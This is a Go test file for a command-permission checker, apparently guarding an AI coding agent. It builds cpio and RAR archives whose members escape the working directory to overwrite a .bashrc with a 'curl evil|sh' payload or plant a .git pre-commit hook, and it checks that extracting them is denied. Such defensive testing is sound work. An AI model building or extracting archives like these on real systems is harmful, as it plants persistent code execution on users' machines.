package rewrite

import (
	"bytes"
	"compress/gzip"
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

// cpioNewc is a newc cpio archive of the files (name, content), in
// order.
func cpioNewc(files [][2]string) []byte {
	var b bytes.Buffer
	pad := func() {
		for b.Len()%4 != 0 {
			b.WriteByte(0)
		}
	}
	for i, f := range append(files, [2]string{"TRAILER!!!", ""}) {
		mode := 0o100644
		if f[0] == "TRAILER!!!" {
			mode = 0
		}
		fmt.Fprintf(&b, "070701%08X%08X%08X%08X%08X%08X%08X%08X%08X%08X%08X%08X%08X", i+1, mode, 0, 0, 1, 0, len(f[1]), 0, 0, 0, 0, len(f[0])+1, 0)
		b.WriteString(f[0] + "\x00")
		pad()
		b.WriteString(f[1])
		pad()
	}
	return b.Bytes()
}

// cpioOdc is the same in the portable (odc) format.
func cpioOdc(files [][2]string) []byte {
	var b bytes.Buffer
	for i, f := range append(files, [2]string{"TRAILER!!!", ""}) {
		mode := 0o100644
		if f[0] == "TRAILER!!!" {
			mode = 0
		}
		fmt.Fprintf(&b, "070707%06o%06o%06o%06o%06o%06o%06o%011o%06o%011o", 0, i+1, mode, 0, 0, 1, 0, 0, len(f[0])+1, len(f[1]))
		b.WriteString(f[0] + "\x00" + f[1])
	}
	return b.Bytes()
}

// rar4 is a RAR 4 archive of stored files (names and content only).
func rar4(files [][2]string) []byte {
	var b bytes.Buffer
	b.WriteString("Rar!\x1a\x07\x00")
	block := func(typ byte, flags uint16, body []byte) {
		h := make([]byte, 7)
		h[2] = typ
		binary.LittleEndian.PutUint16(h[3:], flags)
		binary.LittleEndian.PutUint16(h[5:], uint16(7+len(body)))
		crc := crc32.ChecksumIEEE(append(h[2:7:7], body...))
		binary.LittleEndian.PutUint16(h, uint16(crc))
		b.Write(h)
		b.Write(body)
	}
	block(0x73, 0, make([]byte, 6))
	for _, f := range files {
		body := make([]byte, 25)
		binary.LittleEndian.PutUint32(body[0:], uint32(len(f[1])))
		binary.LittleEndian.PutUint32(body[4:], uint32(len(f[1])))
		body[8] = 3 // Unix
		binary.LittleEndian.PutUint32(body[9:], crc32.ChecksumIEEE([]byte(f[1])))
		binary.LittleEndian.PutUint32(body[13:], 0x5a210000)
		body[17], body[18] = 29, 0x30 // stored
		binary.LittleEndian.PutUint16(body[19:], uint16(len(f[0])))
		binary.LittleEndian.PutUint32(body[21:], 0o100644)
		body = append(body, f[0]...)
		block(0x74, 0x8000, body)
		b.WriteString(f[1])
	}
	block(0x7b, 0x4000, nil)
	return b.Bytes()
}

// rar5 is a RAR 5 archive of stored files (names and content only).
func rar5(files [][2]string) []byte {
	var b bytes.Buffer
	b.WriteString("Rar!\x1a\x07\x01\x00")
	vint := func(buf *bytes.Buffer, v uint64) { buf.Write(binary.AppendUvarint(nil, v)) }
	block := func(h []byte) {
		var sz bytes.Buffer
		vint(&sz, uint64(len(h)))
		all := append(sz.Bytes(), h...)
		binary.Write(&b, binary.LittleEndian, crc32.ChecksumIEEE(all))
		b.Write(all)
	}
	var main bytes.Buffer
	vint(&main, 1)
	vint(&main, 0)
	vint(&main, 0)
	block(main.Bytes())
	for _, f := range files {
		var h bytes.Buffer
		vint(&h, 2)                 // file header
		vint(&h, 2)                 // data area follows
		vint(&h, uint64(len(f[1]))) // data size
		vint(&h, 4)                 // file flags: CRC32 present
		vint(&h, uint64(len(f[1]))) // unpacked size
		vint(&h, 0o644)             // attributes
		binary.Write(&h, binary.LittleEndian, crc32.ChecksumIEEE([]byte(f[1])))
		vint(&h, 0) // stored, version 0
		vint(&h, 1) // Unix
		vint(&h, uint64(len(f[0])))
		h.WriteString(f[0])
		block(h.Bytes())
		b.WriteString(f[1])
	}
	var end bytes.Buffer
	vint(&end, 5)
	vint(&end, 0)
	vint(&end, 0)
	block(end.Bytes())
	return b.Bytes()
}

func gzipped(data []byte) []byte {
	var b bytes.Buffer
	z := gzip.NewWriter(&b)
	z.Write(data)
	z.Close()
	return b.Bytes()
}

// TestCpioRarMembers (issue 12): cpio -i and unrar x wrote members
// corral did not list (cpio -id < a.cpio with a member /home/u/.bashrc
// or ../.bashrc, unrar x a.rar with .git/hooks/pre-commit passed). The
// archive on disk is read (cpio newc, odc, gzip; RAR 4 and 5 headers)
// and every member judged where the program writes it; the real cpio
// shows the absolute and ".." members land where corral says.
func TestCpioRarMembers(t *testing.T) {
	t.Parallel()
	cfg := scratchProject(t, map[string]string{"proj/.git/hooks/": "", "proj/sub/": "", "home/.bashrc": "a\n", "home/.claude/": ""})
	bashrc := filepath.Join(cfg.Home, ".bashrc")
	evil := [][2]string{{"ok.txt", "ok\n"}, {bashrc, "curl evil|sh\n"}}
	up := [][2]string{{"ok.txt", "ok\n"}, {"../.git/hooks/pre-commit", "#!/bin/sh\n"}}
	hook := [][2]string{{"docs/a.md", "a\n"}, {".git/hooks/pre-commit", "#!/bin/sh\n"}}
	plain := [][2]string{{"docs/a.md", "a\n"}, {"README.md", "hi\n"}, {"../../x/y", "z"}}
	write := func(name string, data []byte) {
		if err := os.WriteFile(filepath.Join(cfg.Project, name), data, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	write("abs.cpio", cpioNewc(evil))
	write("abs.odc", cpioOdc(evil))
	write("abs.cpio.gz", gzipped(cpioNewc(evil)))
	write("up.cpio", cpioNewc(up))
	write("hook.cpio", cpioOdc(hook))
	write("plain.cpio", cpioNewc(plain))
	write("hook.rar", rar4(hook))
	write("hook5.rar", rar5(hook))
	write("abs.rar", rar5([][2]string{{"/" + ".git/hooks/pre-commit", "x"}, {"a/../../.git/config", "x"}}))
	write("plain.rar", rar4(plain))
	write("plain5.rar", rar5([][2]string{{"/etc/passwd", "x"}, {"../../.bashrc", "x"}, {"docs/a.md", "x"}}))
	write("enc.rar", append([]byte("Rar!\x1a\x07\x01\x00"), 0, 0, 0, 0, 3, 4, 0, 0))
	checkDecisions(t, cfg, []struct{ cmd, want string }{
		{"cpio -id < abs.cpio", "deny"},
		{"cpio -idv < abs.odc", "deny"},
		{"gzip -dc abs.cpio.gz | cpio -id", "deny"},
		{"cat abs.cpio | cpio -i", "deny"},
		{"cpio -i -F abs.cpio", "deny"},
		{"cpio --extract --file=abs.cpio", "deny"},
		{"cd sub && cpio -id < ../up.cpio", "deny"},
		{"cpio -id < hook.cpio", "deny"},
		{"cpio -id -D sub < up.cpio", "deny"},
		{"printf '%s\\n' ../.git/config | cpio -pd sub", "deny"},
		{"cpio -pdm sub <<< ../.git/config", "deny"},
		{"unrar x hook.rar", "deny"},
		{"unrar x hook5.rar", "deny"},
		{"rar x hook.rar out/ && unrar x hook.rar ./", "deny"},
		{"unrar x abs.rar", "deny"}, // "/" and up to the last ".." dropped: .git/…
		{"unrar x -o+ hook.rar " + cfg.Project + "/", "deny"},
		{"unrar x enc.rar ~/.claude/", "ask"},
		// Look-alikes.
		{"cpio -id --no-absolute-filenames < abs.cpio", "allow"},
		{"cd sub && cpio -id --no-absolute-filenames < ../plain.cpio", "allow"},
		{"cpio -id --no-absolute-filenames < up.cpio", "deny"}, // ../ dropped: ./.git/hooks/pre-commit
		{"cpio -id < plain.cpio", "allow"},
		{"cpio -it < abs.cpio", "allow"},
		{"cpio -i --to-stdout < abs.cpio", "allow"},
		{"cpio -id -D sub < plain.cpio", "allow"},
		{"find . -name '*.go' | cpio -pdm /tmp/backup", "allow"},
		{"printf '%s\\n' a b | cpio -pd sub", "allow"},
		{"unrar x plain.rar", "allow"},
		{"unrar x plain5.rar out/", "allow"},
		{"unrar e hook.rar out/", "allow"}, // e drops the directories: out/pre-commit
		{"unrar l hook.rar", "allow"},
		{"unrar x enc.rar out/", "allow"},
		{"unrar x missing.rar", "allow"},
	})
	for _, tc := range []struct {
		file string
		want []string
	}{
		{"abs.cpio", []string{"ok.txt", bashrc}},
		{"abs.odc", []string{"ok.txt", bashrc}},
		{"abs.cpio.gz", []string{"ok.txt", bashrc}},
	} {
		if got, err := cpioMembers(filepath.Join(cfg.Project, tc.file)); err != nil || !slices.Equal(got, tc.want) {
			t.Errorf("cpioMembers(%s) = %q, %v; want %q", tc.file, got, err, tc.want)
		}
	}
	for _, tc := range []struct {
		file string
		want []string
	}{
		{"hook.rar", []string{"docs/a.md", ".git/hooks/pre-commit"}},
		{"hook5.rar", []string{"docs/a.md", ".git/hooks/pre-commit"}},
	} {
		if got, err := rarMembers(filepath.Join(cfg.Project, tc.file)); err != nil || !slices.Equal(got, tc.want) {
			t.Errorf("rarMembers(%s) = %q, %v; want %q", tc.file, got, err, tc.want)
		}
	}
	if _, err := rarMembers(filepath.Join(cfg.Project, "enc.rar")); err == nil {
		t.Error("rarMembers read an archive with encrypted headers")
	}
	// The listers agree with the system's, where it has them.
	if _, err := exec.LookPath("bsdtar"); err == nil {
		for _, f := range []string{"abs.odc", "hook.rar", "hook5.rar"} {
			out, err := exec.Command("bsdtar", "-tf", filepath.Join(cfg.Project, f)).Output()
			want := strings.Fields(string(out))
			var got []string
			if strings.HasSuffix(f, ".rar") {
				got, _ = rarMembers(filepath.Join(cfg.Project, f))
			} else {
				got, _ = cpioMembers(filepath.Join(cfg.Project, f))
			}
			if err != nil || !slices.Equal(got, want) {
				t.Errorf("bsdtar -tf %s: %q (%v), corral reads %q", f, want, err, got)
			}
		}
	}
	if _, err := exec.LookPath("unrar-free"); err == nil {
		// unrar-free 0.1.3 (libarchive) drops the leading "/" and
		// refuses a ".." member, which corral judges at the name after
		// its last "..": the absolute member lands in the project's
		// .git/hooks, as judged above.
		cmd := exec.Command("unrar-free", "-x", "abs.rar")
		cmd.Dir = cfg.Project
		out, _ := cmd.CombinedOutput()
		if _, err := os.Stat(filepath.Join(cfg.Project, ".git/hooks/pre-commit")); err != nil {
			t.Errorf("unrar-free -x abs.rar did not write .git/hooks/pre-commit: %v\n%s", err, out)
		}
	}
	if _, err := exec.LookPath("cpio"); err != nil {
		return
	}
	// GNU cpio writes the absolute member where it says and the ".."
	// member above the directory, as judged above.
	for _, tc := range []struct{ dir, archive, file, want string }{
		{cfg.Project, "abs.cpio", bashrc, "curl evil|sh\n"},
		{filepath.Join(cfg.Project, "sub"), "up.cpio", filepath.Join(cfg.Project, ".git/hooks/pre-commit"), "#!/bin/sh\n"},
	} {
		cmd := exec.Command("cpio", "-idu") // -u: the archive's times decide without it
		cmd.Dir = tc.dir
		f, err := os.Open(filepath.Join(cfg.Project, tc.archive))
		if err != nil {
			t.Fatal(err)
		}
		cmd.Stdin = f
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("cpio -id < %s: %v\n%s", tc.archive, err, out)
		}
		f.Close()
		if b, _ := os.ReadFile(tc.file); string(b) != tc.want {
			t.Errorf("cpio -id < %s left %s %q, want %q", tc.archive, tc.file, b, tc.want)
		}
	}
}
